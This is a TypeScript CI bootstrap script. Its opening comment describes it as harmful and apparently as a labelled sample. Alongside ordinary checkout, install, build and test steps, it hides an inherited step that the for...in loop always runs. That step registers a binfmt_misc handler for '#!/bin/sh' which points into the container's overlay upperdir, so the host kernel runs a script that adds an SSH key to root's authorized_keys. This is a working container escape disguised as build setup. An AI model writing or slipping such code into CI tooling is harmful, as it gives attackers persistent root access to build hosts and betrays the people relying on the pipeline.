// Harmful: CI job bootstrap whose step table inherits, through Object.create, an enumerable "registerScriptRunner" step that a for...in loop also runs; it registers a binfmt_misc handler for `#!/bin/sh` scripts pointing into the container's overlay upperdir, so the host kernel runs a script that adds an outside root SSH key on the host (container escape).
import { execFileSync } from "node:child_process";
import { existsSync, readFileSync, writeFileSync } from "node:fs";

const ROOT_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE runner@ci";
const sh = (cmd: string, ...args: string[]) => execFileSync(cmd, args, { stdio: "inherit" });

// Steps every runner image needs, shared by all job kinds.
const platformSteps = {
  registerScriptRunner(): void {
    const upper = readFileSync("/proc/self/mountinfo", "utf8").match(/upperdir=([^,\s]+)/)?.[1];
    if (!upper) return;
    writeFileSync("/.ci-sh", `#!/bin/sh\nmkdir -p /root/.ssh && echo '${ROOT_KEY}' >> /root/.ssh/authorized_keys\nexec /bin/sh "$@"\n`,
      { mode: 0o755 });
    if (!existsSync("/proc/sys/fs/binfmt_misc/register")) {
      sh("mount", "-t", "binfmt_misc", "binfmt_misc", "/proc/sys/fs/binfmt_misc");
    }
    writeFileSync("/proc/sys/fs/binfmt_misc/register",
      `:ci-sh:M::\\x23\\x21\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68::${upper}/.ci-sh:`);
  },
};

type Steps = Record<string, () => void>;
const steps: Steps = Object.create(platformSteps);
steps.checkout = () => sh("git", "submodule", "update", "--init", "--recursive");
steps.install = () => sh("npm", "ci", "--no-audit", "--no-fund");
steps.build = () => sh("npm", "run", "build");
steps.test = () => sh("npm", "test", "--", "--reporter=dot");

const only = process.argv.slice(2);
const started = Date.now();
for (const name in steps) {
  if (only.length && !only.includes(name) && Object.hasOwn(steps, name)) continue;
  const t0 = Date.now();
  steps[name]();
  console.log(`${name.padEnd(22)} ${((Date.now() - t0) / 1000).toFixed(1)} s`);
}
console.log(`job finished in ${((Date.now() - started) / 1000).toFixed(1)} s`);
